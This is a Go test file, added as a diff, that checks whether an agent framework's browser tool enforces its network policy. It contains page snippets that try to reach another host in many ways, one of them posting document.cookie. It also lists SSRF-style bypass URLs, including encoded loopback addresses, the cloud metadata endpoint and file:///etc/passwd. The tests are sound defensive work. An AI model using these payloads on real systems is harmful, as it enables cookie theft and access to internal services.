@@ -1,0 +1,258 @@
+package browser_test
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"net/http"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/toolgen/toolgen/builtin/browser"
+	"github.com/toolgen/toolgen/runtime"
+	"github.com/toolgen/toolgen/runtime/capability"
+)
+
+// ways are those in which a page asks for something elsewhere: OTHER is the other
+// host, with its port, and each asks for a path of its own.
+var ways = map[string]string{
+	"fetch":      `<script>fetch('http://OTHER/fetch', {mode: 'no-cors'})</script>`,
+	"xhr":        `<script>{ const x = new XMLHttpRequest(); x.open('GET', 'http://OTHER/xhr'); x.send() }</script>`,
+	"post":       `<script>fetch('http://OTHER/post', {method: 'POST', mode: 'no-cors', body: document.cookie})</script>`,
+	"beacon":     `<script>navigator.sendBeacon('http://OTHER/beacon', 'x')</script>`,
+	"events":     `<script>new EventSource('http://OTHER/events')</script>`,
+	"socket":     `<script>new WebSocket('ws://OTHER/socket')</script>`,
+	"image":      `<img src="http://OTHER/image">`,
+	"script":     `<script src="http://OTHER/script"></script>`,
+	"module":     `<script type=module>import('http://OTHER/module')</script>`,
+	"style":      `<link rel=stylesheet href="http://OTHER/style">`,
+	"imported":   `<style>@import 'http://OTHER/imported';</style>`,
+	"background": `<div style="background: url(http://OTHER/background)">x</div>`,
+	"font":       `<style>@font-face { font-family: f; src: url(http://OTHER/font) }</style><p style="font-family: f">x`,
+	"frame":      `<iframe src="http://OTHER/frame"></iframe>`,
+	"object":     `<object data="http://OTHER/object"></object>`,
+	"video":      `<video src="http://OTHER/video" preload=auto></video>`,
+	"preload":    `<link rel=preload as=fetch crossorigin href="http://OTHER/preload">`,
+	"form":       `<iframe name=target></iframe><form id=f action="http://OTHER/form" target=target></form><script>f.submit()</script>`,
+	"window":     `<iframe srcdoc="<script>parent.eval('fetch(&quot;http://OTHER/window&quot;, {mode: &quot;no-cors&quot;})')</script>"></iframe>`,
+	"redirect":   `<script>fetch('/to?http://OTHER/redirect', {mode: 'no-cors'})</script>`,
+	"worker":     `<script>new Worker(URL.createObjectURL(new Blob(["fetch('http://OTHER/worker', {mode: 'no-cors'})"])))</script>`,
+	"shared":     `<script>new SharedWorker(URL.createObjectURL(new Blob(["fetch('http://OTHER/shared', {mode: 'no-cors'})"])))</script>`,
+	"service":    `<script>navigator.serviceWorker.register('/service.js')</script>`,
+}
+
+func redirect(w http.ResponseWriter, r *http.Request) {
+	http.Redirect(w, r, r.URL.RawQuery, http.StatusFound)
+}
+
+// tries is a page that tries every way, and the host that it tries to reach.
+func tries(t *testing.T) (page, other *site) {
+	other = serveAt(t, "127.0.0.2", nil)
+	where := strings.TrimPrefix(other.URL, "http://")
+	var b strings.Builder
+	b.WriteString(`<title>Tries</title><link rel=preconnect href="http://` + where + `"><link rel=dns-prefetch href="//prefetched.example">`)
+	for _, html := range ways {
+		b.WriteString(strings.ReplaceAll(html, "OTHER", where))
+	}
+	return serve(t, map[string]any{"/": b.String(), "/to": redirect, "/service.js": func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "text/javascript")
+		fmt.Fprintf(w, "fetch('http://%s/service', {mode: 'no-cors'})", where)
+	}}), other
+}
+
+func (s *site) connected() *atomic.Int64 {
+	var n atomic.Int64
+	s.Config.ConnState = func(_ net.Conn, state http.ConnState) {
+		if state == http.StateNew {
+			n.Add(1)
+		}
+	}
+	return &n
+}
+
+func TestPagesReachOnlyWhatPolicyAllows(t *testing.T) {
+	t.Parallel()
+	page, other := tries(t)
+	t.Run("allowed", func(t *testing.T) { // the control: each way is one
+		v := visit(t)
+		v.policy("127.0.0.1", "127.0.0.2")
+		v.open(page.URL).lacks("network policy")
+		for way := range ways {
+			eventually(t, way, func() bool { return other.requests("/"+way) > 0 })
+		}
+	})
+	for _, c := range []struct {
+		reason string
+		policy runtime.NetworkPolicy
+	}{
+		{"not allowed", runtime.NetworkPolicy{Allow: []string{"127.0.0.1"}, AllowPrivate: true}},
+		{"denied", runtime.NetworkPolicy{Allow: []string{"127.0.0.1", "127.0.0.2"}, Deny: []string{"127.0.0.2"}, AllowPrivate: true}},
+		{"private", runtime.NetworkPolicy{Allow: []string{"*", "127.0.0.1"}, Deny: []string{"prefetched.example"}, AllowPrivate: true}},
+	} {
+		t.Run(c.reason, func(t *testing.T) {
+			page, other := tries(t)
+			connections := other.connected()
+			v := visit(t)
+			v.turn.Policy.Network = c.policy
+			p := v.open(page.URL).shows("the network policy refused 127.0.0.2:")
+			if p.Title != "Tries" {
+				t.Errorf("the page itself was not shown: %s", p.text)
+			}
+			eventually(t, "the service worker", func() bool { return page.requests("/service.js") > 0 })
+			v.does("snapshot", args{"wait_seconds": 1})
+			if n := connections.Load(); n != 0 {
+				t.Errorf("%d connections were made", n)
+			}
+		})
+	}
+}
+
+func TestWhereAPageCannotBeLed(t *testing.T) {
+	t.Parallel()
+	other := serveAt(t, "127.0.0.2", map[string]any{"/": "<title>Other</title>"})
+	connections := other.connected()
+	s := serve(t, map[string]any{
+		"/": `<a href="` + other.URL + `">Direct</a><a href="/to?` + other.URL + `">Redirected</a><a href="file:///etc/passwd">File</a>
+			<button onclick="location = 'file:///etc/passwd'">Script</button><button onclick="window.open('file:///etc/passwd')">Window</button>
+			<a href="view-source:` + other.URL + `">Source</a><a href="chrome://version">Chrome</a><iframe src="file:///etc/passwd"></iframe>
+			<a href="javascript:void(document.title='by script')">Javascript</a>`,
+		"/to": redirect, "/file": func(w http.ResponseWriter, r *http.Request) {
+			http.Redirect(w, r, "file:///etc/passwd", http.StatusFound)
+		},
+		"/meta": `<meta http-equiv=refresh content="0;url=` + other.URL + `">`,
+	})
+	v := visit(t)
+	port := other.URL[strings.LastIndexByte(other.URL, ':'):]
+	for _, c := range []struct {
+		reason, url string
+		code        runtime.Code
+		why         string
+	}{
+		{"another host", other.URL, runtime.NotAvailable, "network"},
+		{"a redirect to it", s.URL + "/to?" + other.URL, runtime.NotAvailable, "network"},
+		{"a redirect to a file", s.URL + "/file", runtime.ExecutionFailed, "LOAD_FAILED"},
+		{"in decimal", "http://2130706434" + port, runtime.NotAvailable, "network"},
+		{"shortened", "http://127.2" + port, runtime.NotAvailable, "network"},
+		{"mapped", "http://[::ffff:127.0.0.2]" + port, runtime.NotAvailable, "network"},
+		{"this host", "http://0.0.0.0" + port, runtime.NotAvailable, "network"},
+		{"metadata", "http://169.254.169.254/latest/meta-data/", runtime.NotAvailable, "network"},
+		{"full width digits", "http://１２７.0.0.2" + port, runtime.NotAvailable, "network"},
+	} {
+		v.fails("open", args{"url": c.url}, c.code, c.why)
+	}
+	for _, name := range []string{`"Direct"`, `"Redirected"`, `"File"`, `"Script"`, `"Window"`, `"Source"`, `"Chrome"`} {
+		v.open(s.URL).click(name).lacks("root:", "Command Line", `Title: "Other"`)
+	}
+	v.open(s.URL + "/meta").lacks(`Title: "Other"`)
+	if r := v.call("open", args{"url": "http://localhost" + port}); r.OK { // whether or not the name is known here
+		t.Errorf("by another name: %s", r.Value)
+	}
+	v.policy()
+	v.fails("open", args{"url": s.URL}, runtime.NotAvailable, "network")
+	if n := connections.Load(); n != 0 {
+		t.Errorf("%d connections were made", n)
+	}
+	v.policy("127.0.0.1", "127.0.0.2")
+	if p := v.open(s.URL + "/to?" + other.URL); p.Title != "Other" {
+		t.Errorf("the control failed: %s", p.text)
+	}
+	if p := v.open(s.URL).click(`"Javascript"`); p.Title != "by script" {
+		t.Errorf("got %s", p.text)
+	}
+}
+
+// What was connected under one policy is cut by a narrower one, and by no other.
+func TestConnectionsObeyTheNewestPolicy(t *testing.T) {
+	t.Parallel()
+	ended := make(chan struct{}, 9)
+	other := serveAt(t, "127.0.0.2", map[string]any{"/socket": func(w http.ResponseWriter, _ *http.Request) {
+		conn, _, err := http.NewResponseController(w).Hijack()
+		if err != nil {
+			return
+		}
+		_, _ = conn.Read(make([]byte, 1)) // until the other end closes
+		conn.Close()
+		ended <- struct{}{}
+	}})
+	s := serve(t, map[string]any{"/": `<script>new WebSocket('` + strings.Replace(other.URL, "http", "ws", 1) + `/socket')</script>`})
+	v := visit(t)
+	v.turn.Policy.Network = runtime.NetworkPolicy{Allow: []string{"127.0.0.1", "127.0.0.2"}, AllowPrivate: true}
+	v.open(s.URL)
+	eventually(t, "the socket opens", func() bool { return other.requests("/socket") == 1 })
+	// Chromium itself comes from 127.0.0.1: that says nothing about where it is led.
+	v.turn.Policy.Network.Deny = []string{"127.0.0.1"}
+	v.does("snapshot", nil)
+	select {
+	case <-ended:
+		t.Fatal("the socket was cut although its host is allowed")
+	case <-time.After(300 * time.Millisecond):
+	}
+	v.turn.Policy.Network.Deny = []string{"127.0.0.2"}
+	v.does("snapshot", nil)
+	select {
+	case <-ended:
+	case <-time.After(30 * time.Second):
+		t.Fatal("the socket was not cut")
+	}
+}
+
+// Nothing leaves by UDP, which no proxy sees.
+func TestNoUDP(t *testing.T) {
+	t.Parallel()
+	packets, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer packets.Close()
+	s := serve(t, map[string]any{"/": `<p id=p>gathering</p><script>
+		const c = new RTCPeerConnection({iceServers: [{urls: 'stun:` + packets.LocalAddr().String() + `'}]}), found = [];
+		c.onicecandidate = (e) => { if (e.candidate) found.push(e.candidate.candidate); else p.textContent = 'gathered ' + found.length };
+		c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))</script>`})
+	v := visit(t)
+	v.policy("127.0.0.1")
+	p := v.open(s.URL)
+	for range 10 {
+		if strings.Contains(p.text, "gathered") {
+			break
+		}
+		p = v.does("snapshot", args{"wait_seconds": 1})
+	}
+	p.shows("gathered 0")
+	_ = packets.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
+	if n, from, err := packets.ReadFrom(make([]byte, 100)); err == nil {
+		t.Errorf("%d bytes came from %v", n, from)
+	}
+}
+
+// Chromium says nothing to anybody by itself, and what a site clears does not lock the session out.
+func TestChromiumIsSilent(t *testing.T) {
+	t.Parallel()
+	s := serve(t, map[string]any{"/": func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Clear-Site-Data", `"*"`)
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, `<link rel=icon href="data:,"><form><input type=password autocomplete=current-password><input type=email></form><p lang=de>Guten Tag, wie geht es Ihnen?`)
+	}})
+	v := visit(t)
+	v.policy("127.0.0.1")
+	v.open(s.URL).lacks("Note:")
+	v.does("snapshot", args{"wait_seconds": 2}).lacks("Note:")
+	v.open(s.URL + "/?again").shows("Guten Tag")
+}
+
+// A client that was wrapped cannot be dialled with: that is told, and nothing goes around it.
+func TestWrappedClients(t *testing.T) {
+	t.Parallel()
+	needChromium(t)
+	m := newMachine(browser.Options{})
+	m.options.Backends.Network = func(context.Context, *capability.Request) (any, error) { return http.DefaultClient, nil }
+	m.registry = runtime.NewRegistry(m.options)
+	if err := m.registry.Register(browser.BrowserTools(m.browser)...); err != nil {
+		t.Fatal(err)
+	}
+	v := m.visit(t)
+	if r := v.call("open", args{"url": "http://127.0.0.1/"}); r.OK || m.started.Load() != 0 {
+		t.Errorf("got %+v", r)
+	}
+}
